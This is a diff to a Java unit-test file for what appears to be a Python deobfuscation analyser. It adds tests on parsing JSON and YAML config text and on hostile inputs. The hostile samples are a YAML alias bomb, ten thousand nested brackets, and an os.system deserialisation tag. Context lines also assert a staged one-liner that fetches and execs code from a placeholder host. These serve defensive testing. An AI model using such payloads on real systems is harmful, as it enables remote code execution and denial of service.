@@ -111,6 +111,10 @@ class PyEvaluatorTest {
                 Arguments.of("def k():\n    return 'ex' + 'ec'\nsink(k())", "exec", List.of()),
                 Arguments.of("import base64\ndef d(s):\n    return base64.b64decode(s[::-1]).decode()\nsink(d('=QWasFmdulmLlxGctFGel9yL6MHc0RHa'))", "https://example.invalid", List.of("reverse", "base64")),
                 Arguments.of("f = lambda s: ''.join(chr(ord(c) ^ 1) for c in s)\nsink(f('dydb'))", "exec", List.of("chr", "xor")),
+                // config texts parsed as the data they hold
+                Arguments.of("import json\nsink(json.loads('{\"a\": [\"x\", {\"b\": \"https\"}], \"n\": 2}')['a'][1]['b'])", "https", List.of()),
+                Arguments.of("import yaml\nsink(yaml.safe_load('hooks:\\n  on_load: |\\n    import os\\n  n: 2\\n')['hooks']['on_load'])",
+                        "import os\n", List.of()),
                 // **kwargs holds the keywords no named parameter takes; cls.method() runs the classmethod
                 Arguments.of("def f(a, **kw):\n    return kw[a] + kw['b']\nsink(f(a='x', x='ht', b='tps'))", "https", List.of()),
                 Arguments.of("def f(**kw):\n    return str(sorted(kw))\nsink(f())", "[]", List.of()),
@@ -395,6 +399,22 @@ class PyEvaluatorTest {
                 """);
         assertThat(model.stages()).extracting(PyModel.Stage::via, PyModel.Stage::text).contains(org.assertj.core.groups.Tuple.tuple(
                 "python -c", "import urllib.request as r;exec(r.urlopen('https://example.invalid/' + _).read())"));
+    }
+
+    @Test
+    void hostileConfigTextsStayUnknown() {
+        StringBuilder laughs = new StringBuilder("a: &a [x, x, x, x, x, x, x, x, x, x]\n");
+        for (int i = 1; i < 12; i++) {
+            laughs.append((char) ('a' + i)).append(": &").append((char) ('a' + i)).append(" [");
+            laughs.append(("*" + (char) ('a' + i - 1) + ", ").repeat(9)).append('*').append((char) ('a' + i - 1)).append("]\n");
+        }
+        Value parsed = DataText.parse(laughs.toString(), true, List.of());
+        assertThat(parsed).as("aliases are not expanded: no billion laughs").isInstanceOfSatisfying(Value.Dict.class,
+                d -> assertThat(d.values().get(11)).isInstanceOfSatisfying(Value.Seq.class,
+                        l -> assertThat(l.items()).hasSize(10).allMatch(item -> item instanceof Value.Str)));
+        assertThat(DataText.parse("[".repeat(10_000), false, List.of())).isNull();
+        assertThat(DataText.parse("{\"a\": 1", false, List.of())).isNull();
+        assertThat(DataText.parse("!!python/object/apply:os.system ['id']", true, List.of())).isNotInstanceOf(Value.Str.class);
     }
 
     @Test
